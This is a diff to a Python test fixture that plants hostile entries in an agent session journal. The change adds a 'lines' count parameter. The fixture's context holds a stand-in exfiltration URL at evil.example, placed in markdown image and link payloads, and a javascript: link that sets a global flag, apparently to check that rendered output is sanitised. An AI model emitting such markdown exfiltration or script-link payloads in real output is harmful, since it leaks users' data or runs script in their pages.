@@ -31,7 +31,7 @@ LEAKY = "https://evil.example/steal?x="
 SESSION = "hostile1"
 
 
-def hostile() -> Sequence[Entry]:
+def hostile(lines: int = 400) -> Sequence[Entry]:
     order = json.dumps({"workflow": NAME, "project": f"a/{NAME}", "mr_iid": 7, "message": ATTACK})
     answer = (
         f"# {ATTACK}\n\n![x]({LEAKY}1)\n\n[go](javascript:window.owned=1) <{LEAKY}2>\n\n```\n{ATTACK}\n```\n\n{ATTACK}"
@@ -44,16 +44,16 @@ def hostile() -> Sequence[Entry]:
         ModelCalled(call_id="1", model=NAME, messages=1),
         ModelAnswered(call_id="1", model=NAME, message=AssistantMessage(text=ATTACK, reasoning=ATTACK)),
         ToolStarted(call_id="t", name=NAME, arguments=ATTACK),
-        ToolFinished(call_id="t", name=NAME, text=f"{ATTACK}\n" * 400),
+        ToolFinished(call_id="t", name=NAME, text=f"{ATTACK}\n" * lines),
         RunEnded(run_id="r", reason=EndReason.COMPLETED, text=answer, sentence=ATTACK, answered=True),
     ]
 
 
-async def planted(stage: Stage, results: int = 1) -> None:
+async def planted(stage: Stage, results: int = 1, lines: int = 400) -> None:
     folder = stage.folder / "state" / "sessions" / SESSION
     folder.mkdir(parents=True)
     journal = FileJournal(folder / "journal.jsonl")
-    *before, result, end = hostile()
+    *before, result, end = hostile(lines)
     for entry in (*before, *[result] * results, end):
         journal.append(entry)
     await journal.commit()
